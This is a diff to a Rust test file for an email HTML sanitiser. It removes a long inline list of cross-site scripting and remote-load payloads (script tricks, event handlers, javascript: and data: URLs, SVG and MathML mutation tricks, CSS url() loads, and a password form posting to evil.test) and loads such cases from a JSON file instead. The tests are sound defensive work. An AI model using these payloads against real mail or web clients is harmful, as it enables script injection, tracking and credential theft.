@@ -4,6 +4,7 @@
 #![allow(clippy::unwrap_used, clippy::panic)] // helpers outside of #[test] functions
 
 use std::cell::RefCell;
+use std::sync::LazyLock;
 
 use bytes::Bytes;
 use centralino_channels::email::html::sanitise;
@@ -264,207 +265,20 @@ fn style_fault(bare: &str) -> Option<&'static str> {
 }
 
 /// Attacks as they are known from lists of such, by what they try. None of their canaries may come through as markup.
-const ATTACKS: &[&str] = &[
-    // scripts and their hiding places
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
-    "<script/x>alert(1)</script\n>",
-    "<<script>alert(1)//<</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script>alert(1)",
-    "<script <b>>alert(1)</script>",
-    "<!--><script>alert(1)</script-->",
-    "<!--x--!><script>alert(1)</script>",
-    "<!-- --!> <img src=x onerror=alert(1)> -->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><script>alert(1)</script>",
-    "<? foo=\"><script>alert(1)</script>\">",
-    "</><script>alert(1)</script>",
-    "<%<!--'%><script>alert(1);</script -->",
-    "<title><img title=\"</title><script>alert(1)</script>\"></title>",
-    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
-    "<noembed><img alt=\"</noembed><img src onerror=alert(1)>\"></noembed>",
-    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
-    "<plaintext><script>alert(1)</script>",
-    "<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
-    "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
-    "<template shadowrootmode=open><script>alert(1)</script></template>",
-    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
-    // event handlers
-    "<img src=x onerror=alert(1)>",
-    "<img/src=`x`onerror=alert(1)>",
-    "<img src=\"x\"onerror=\"alert(1)\">",
-    "<img src='x' oNeRrOr = 'alert(1)'>",
-    "<img \u{c}src=x\u{c}onerror=alert(1)>",
-    "<img src=x:alert(1) onerror=eval(src)>",
-    "<p onmouseover=alert(1)>move</p>",
-    "<body onload=alert(1)>hello",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<a href=# onfocus=alert(1) autofocus tabindex=1>x</a>",
-    "<div onpointerenter=alert(1) style=\"width:100px\">x</div>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<input onfocus=alert(1) autofocus>",
-    "<b/onclick=alert(1)//=\">x</b>",
-    "<p =onclick=alert(1)>x</p>",
-    // addresses that run
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href=\"java\tscript:alert(1)\">x</a>",
-    "<a href=\"java&#10;script:alert(1)\">x</a>",
-    "<a href=\"&#1;javascript:alert(1)\">x</a>",
-    "<a href=\" &#14; javascript:alert(1)\">x</a>",
-    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)\">x</a>",
-    "<a href=\"javascript&colon;alert(1)\">x</a>",
-    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
-    "<a href=\"vbscript:msgbox(1)\">x</a>",
-    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
-    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
-    "<a href=\"feed:javascript:alert(1)\">x</a>",
-    "<a href=\"view-source:javascript:alert(1)\">x</a>",
-    "<a href=\"file:///etc/passwd\">x</a>",
-    "<a href=\"blob:https://evil.test/x\">x</a>",
-    "<a href=\"//evil.test/x\">x</a>",
-    "<a href=\"/api/v1/session\">x</a>",
-    "<a href=\"?confirm=1\">x</a>",
-    "<a href=\"cid:x\">x</a>",
-    "<a href=\"http://x\" target=_top rel=opener>x</a>",
-    "<a ping=//evil.test href=http://x.test>x</a>",
-    "<a href='http://x.test' href='javascript:alert(1)'>x</a>",
-    "<a href=\"http://x.test/\" download=evil.exe>x</a>",
-    "<area href=javascript:alert(1)>",
-    "<img src=javascript:alert(1)>",
-    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
-    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
-    "<img src=\"data:text/html,<script>alert(1)</script>\">",
-    "<img srcset=\"http://evil.test/a 1x, http://evil.test/b 2x\">",
-    "<img src=cid:a srcset=http://evil.test/a sizes=100vw>",
-    "<img lowsrc=http://evil.test/a dynsrc=http://evil.test/b longdesc=http://evil.test/c>",
-    "<img src=//evil.test/pixel.gif>",
-    "<img src=\"http://evil.test/pixel.gif\">",
-    "<img src=\"&#104;ttp://evil.test/pixel.gif\">",
-    "<img src=\"  http://evil.test/pixel.gif\" alt=' src=\"x'>",
-    "<img alt=\"x src=&quot;\" src=\"https://evil.test/a?b=&quot;&amp;c\">",
-    "<picture><source srcset=http://evil.test/a><img src=cid:a></picture>",
-    "<table background=http://evil.test/a><tr><td background=http://evil.test/b>x</table>",
-    "<body background=http://evil.test/a>x",
-    "<input type=image src=http://evil.test/a>",
-    "<video poster=http://evil.test/a src=http://evil.test/b></video>",
-    "<object data=http://evil.test/a.swf><param name=x value=y></object>",
-    "<embed src=http://evil.test/a.swf>",
-    "<applet code=Evil></applet>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<frameset><frame src=http://evil.test></frameset>",
-    "<portal src=http://evil.test></portal>",
-    "<link rel=stylesheet href=http://evil.test/a.css>",
-    "<link rel=prefetch href=http://evil.test/a>",
-    "<link rel=import href=data:text/html,x>",
-    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
-    "<meta http-equiv=refresh content=\"0;url=//evil.test\">",
-    "<meta http-equiv=Content-Security-Policy content=\"img-src *\">",
-    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "<base href=//evil.test/><a href=x>x</a>",
-    "<base target=_top>",
-    "<bgsound src=http://evil.test/a>",
-    "<layer src=http://evil.test/a>",
-    "<html manifest=http://evil.test/a>",
-    // forms
-    "<form action=//evil.test><input name=password type=password><button>Sign in</button></form>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<input type=submit formaction=//evil.test>",
-    "<isindex action=javascript:alert(1) type=image>",
-    "<textarea name=x>y</textarea><select><option>z</select>",
-    "<keygen autofocus onfocus=alert(1)>",
-    "<dialog open>Session ended<form method=dialog></form></dialog>",
-    "<output form=x>y</output>",
-    // other languages inside
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
-    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
-    "<svg><set attributeName=onload to=alert(1)></svg>",
-    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></svg>",
-    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
-    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
-    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
-    "<svg><desc><table><tr><img src=x onerror=alert(1)></table></desc></svg>",
-    "<math href=javascript:alert(1)>x</math>",
-    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
-    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<math><mi><table><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
-    "<xml><i><b>x</b></i></xml><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
-    "<custom-element is=script onclick=alert(1)>x</custom-element>",
-    // mutations by the parser
-    "<p title=\"<!--<img title='--><img src=x onerror=alert(1)>'>\">",
-    "<table><td><table><td><a title=\"</table><img src=x onerror=alert(1)>\">",
-    "<a><table><a href=javascript:alert(1)>x",
-    "<b><p title='</b><img src=x onerror=alert(1)>'></b>",
-    "<li><table><form><li><input onfocus=alert(1)>",
-    "<div id=\"`><img src=x onerror=alert(1)>\">",
-    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
-    "<p title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</p>",
-    "<p title=\"&lt;/p&gt;&lt;script&gt;\">&lt;script&gt;alert(1)&lt;/script&gt;</p>",
-    "<p lang='en\" onclick=\"alert(1)'>x</p>",
-    "<font face='x\" onclick=\"alert(1)'>x</font>",
-    "<a href='http://x.test/\" onclick=\"alert(1)'>x</a>",
-    "<a href=\"http://x.test/<script>alert(1)</script>\">x</a>",
-    "<a name=\"</a><script>alert(1)</script>\">x</a>",
-    "<pre>\n\n<img src=x onerror=alert(1)></pre>",
-    "<ruby><rtc><img src=x onerror=alert(1)>",
-    "<img title=\"a\0b\" src=\"java\0script:alert(1)\" onerror\0=alert(1)>",
-    "<\0script>alert(1)</script>",
-    "<img src=x one\0rror=alert(1)>",
-    "\u{feff}<script>alert(1)</script>\u{fffe}",
-    // styles
-    "<style>@import url(http://evil.test/a.css);</style>",
-    "<style>*{background:url(http://evil.test)}</style>",
-    "<style><!--</style><img src=x onerror=alert(1)>-->",
-    "<p style=\"background:url(http://evil.test/a)\">x</p>",
-    "<p style=\"background-image:url('http://evil.test/a')\">x</p>",
-    "<p style=\"background:u\\72l(http://evil.test/a)\">x</p>",
-    "<p style=\"background:\\75\\72\\6c(http://evil.test/a)\">x</p>",
-    "<p style=\"background:ur/**/l(http://evil.test/a)\">x</p>",
-    "<p style=\"background-color:red;/*;*/background:url(http://evil.test/a)\">x</p>",
-    "<p style=\"list-style:url(http://evil.test/a)\">x</p>",
-    "<p style=\"list-style-type:image-set('http://evil.test/a' 1x)\">x</p>",
-    "<p style=\"cursor:url(http://evil.test/a),auto\">x</p>",
-    "<p style=\"content:url(http://evil.test/a)\">x</p>",
-    "<p style=\"border-image:url(http://evil.test/a)\">x</p>",
-    "<p style=\"font-family:x;src:url(http://evil.test/a)\">x</p>",
-    "<p style=\"color:red;background:&#117;rl(http://evil.test/a)\">x</p>",
-    "<p style='font:1px \"x;background:url(http://evil.test/a)\"'>x</p>",
-    "<p style=\"width:expression(alert(1))\">x</p>",
-    "<p style=\"wid\\th:exp/**/ression(alert(1))\">x</p>",
-    "<p style=\"-moz-binding:url(http://evil.test/a.xml#x)\">x</p>",
-    "<p style=\"behavior:url(#default#time2)\">x</p>",
-    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">Sign in</p>",
-    "<p style=\"POSITION : absolute; inset:0\">x</p>",
-    "<p style=\"position:sticky;transform:scale(99)\">x</p>",
-    "<p style=\"opacity:0;pointer-events:none\">x</p>",
-    "<p style=\"--x:url(http://evil.test/a);color:var(--x)\">x</p>",
-    "<p style=\"color:rgb(url(http://evil.test))\">x</p>",
-    "<p style=\"width:calc(1px + attr(title))\">x</p>",
-    "<p style=\"animation:x 1s;filter:url(#x)\">x</p>",
-    "<p style=\"color:red}body{display:none\">x</p>",
-    "<p style=\"color:red</style><script>alert(1)</script>\">x</p>",
-    "<p style='color:red;\" onclick=\"alert(1)'>x</p>",
-    "<div class=\"fixed inset-0 z-50\" id=\"app\">x</div>",
-    "<span id=__proto__ name=constructor>x</span><a name=cookie id=documentElement>x</a>",
-];
+/// The browser tests show the same ones in a real browser.
+static ATTACKS: LazyLock<Vec<String>> = LazyLock::new(|| {
+    let cases: Vec<serde_json::Value> = serde_json::from_str(include_str!("hostile_html.json")).unwrap();
+    cases
+        .iter()
+        .map(|case| case["html"].as_str().unwrap().to_owned())
+        .collect()
+});
 
 #[test]
 fn nothing_that_acts_is_left() {
-    assert!(ATTACKS.len() >= 60);
+    assert!(ATTACKS.len() >= 200);
     let mut wrong = Vec::new();
-    for attack in ATTACKS {
+    for attack in ATTACKS.iter() {
         let clean = sanitise(attack).unwrap();
         let mut faults = faults(&clean);
         if !settled(&clean) {
@@ -525,7 +339,7 @@ fn nor_in_the_middle_of_a_mail() {
         ("<b><i><u>", ""),
     ];
     let mut wrong = Vec::new();
-    for attack in ATTACKS {
+    for attack in ATTACKS.iter() {
         for (before, after) in frames {
             let html = format!("{before}{attack}{after}<p>the end</p>");
             let clean = sanitise(&html).unwrap();
@@ -549,7 +363,7 @@ fn nor_in_the_middle_of_a_mail() {
 /// The same through the whole parser, as `parse-mail` prints it.
 #[test]
 fn the_parser_hands_out_sanitised_html_only() {
-    for attack in ATTACKS {
+    for attack in ATTACKS.iter() {
         let raw = format!(
             "From: eve@evil.example\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<div>{attack}</div>\r\n"
         );
